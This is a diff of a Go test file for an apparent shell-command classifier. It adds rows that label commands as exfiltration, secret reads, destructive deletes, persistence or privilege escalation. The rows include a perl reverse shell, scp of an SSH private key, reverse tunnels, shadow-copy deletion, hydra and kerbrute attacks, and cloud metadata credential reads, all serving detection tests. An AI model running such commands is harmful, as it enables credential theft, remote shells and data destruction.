@@ -41,8 +41,8 @@ func TestUploadsAndPeerShells(t *testing.T) {
 		cmd, want string
 	}{
 		{"scp report.pdf alice@files.example.test:/srv/in/", NetworkExfiltration},
-		{"rsync -avz ./site/ deploy@web.example.test:/var/www/", NetworkExfiltration},
-		{"scp -P 2222 -r notes alice@example.test:", NetworkExfiltration},
+		{"rsync -avz ./notes.md deploy@web.example.test:/srv/in/", NetworkExfiltration},
+		{"scp -P 2222 db.sqlite alice@example.test:", NetworkExfiltration},
 		{"scp ~/.ssh/id_rsa alice@example.test:/tmp/", SecretRead},
 		{"rcat l -ie '/usr/bin/script -qc /bin/bash /dev/null' 6969", NetworkExfiltration},
 		{"pwncat-cs -lp 4444 --exec /bin/sh", NetworkExfiltration},
@@ -51,6 +51,11 @@ func TestUploadsAndPeerShells(t *testing.T) {
 		{"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(9,inet_aton(\"example.test\")));`/bin/sh -i <&S >&S`'", NetworkExfiltration},
 		// Downloads, local copies, local terminals, finds.
 		{"scp alice@example.test:/srv/out/report.pdf .", ""},
+		// A folder tree synced or a build's output deployed (the project's
+		// everyday corpus of real shell histories holds many).
+		{"rsync -av public/ deploy@web.example.test:/var/www/site/", ""},
+		{"scp -r app/ alice@example.test:~/", ""},
+		{"scp dist/app.tar.gz deploy@web.example.test:/srv/releases/", ""},
 		{"rsync -a src/ backup/", ""},
 		{"rsync -a alice@example.test:logs/ ./logs/", ""},
 		{"xterm -e /bin/bash", ""},
@@ -299,6 +304,55 @@ func TestPeerShellsInCode(t *testing.T) {
 		{`ruby -e'puts 1+1'`, ""},
 		{`python3 -c 'exec("print(1)")'`, ""},
 		{`lua5.3 -e "print(os.time())"`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
+
+// TestAttackCollectionFamilies: families that collections of attack
+// techniques hold beyond the fourth development part: local files copied
+// into a bucket (an upload), a reverse tunnel opening this machine, login
+// hooks and items, passwords hunted in shell histories, restore points
+// deleted, logins brute-forced, and credentials of clusters and cloud
+// instances read. Reading or downloading the same things is everyday.
+func TestAttackCollectionFamilies(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{"aws s3 cp report.csv s3://bucket/", NetworkExfiltration},
+		{"aws s3 cp ./data/users.csv s3://bucket/data/", NetworkExfiltration},
+		{"gsutil cp data.tar gs://bucket/", NetworkExfiltration},
+		{"gcloud storage cp notes.txt gs://bucket/", NetworkExfiltration},
+		{"az storage blob upload -f x.tar -c c -n x", NetworkExfiltration},
+		{"azcopy copy ./data 'https://acct.blob.core.windows.net/c'", NetworkExfiltration},
+		{"ssh -R 8080:localhost:22 user@example.test", NetworkExfiltration},
+		{"ssh -fNR 2222:127.0.0.1:22 user@example.test", NetworkExfiltration},
+		{"chisel client example.test:8000 R:socks", NetworkExfiltration},
+		{"defaults write com.apple.loginwindow LoginHook /tmp/x.sh", PersistenceStartupFiles},
+		{`osascript -e 'tell application "System Events" to make login item at end with properties {path:"/tmp/x.app", hidden:true}'`, PersistenceStartupFiles},
+		{"cat ~/.bash_history | grep -i pass", SecretRead},
+		{"grep -iE 'password|token' ~/.zsh_history", SecretRead},
+		{"vssadmin delete shadows /all /quiet", DestructiveDelete},
+		{"wbadmin delete catalog -quiet", DestructiveDelete},
+		{"tmutil deletelocalsnapshots /", DestructiveDelete},
+		{"btrfs subvolume delete /snapshots/daily", DestructiveDelete},
+		{"hydra -l root -P words.txt ssh://10.0.0.5", PrivilegeEscalation},
+		{"kerbrute passwordspray -d corp.local users.txt Winter2024", PrivilegeEscalation},
+		{"cat /var/run/secrets/kubernetes.io/serviceaccount/token", SecretRead},
+		{"curl http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role", SecretRead},
+		{`curl -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token`, SecretRead},
+		// Everyday: downloads, local forwards, reading a history or metadata.
+		{"aws s3 cp s3://bucket/report.csv .", ""},
+		{"aws s3 ls s3://bucket/", ""},
+		{"aws s3 sync build/ s3://site-bucket/", ""},
+		{"gsutil cp gs://bucket/x .", ""},
+		{"ssh -L 5432:localhost:5432 user@example.test", ""},
+		{"defaults read com.apple.loginwindow", ""},
+		{"history | grep docker", ""},
+		{"tmutil listlocalsnapshots /", ""},
+		{"btrfs subvolume list /", ""},
+		{"curl http://169.254.169.254/latest/meta-data/instance-id", ""},
+		{"curl http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/email", ""},
 	} {
 		checkRow(t, tt.cmd, tt.want)
 	}
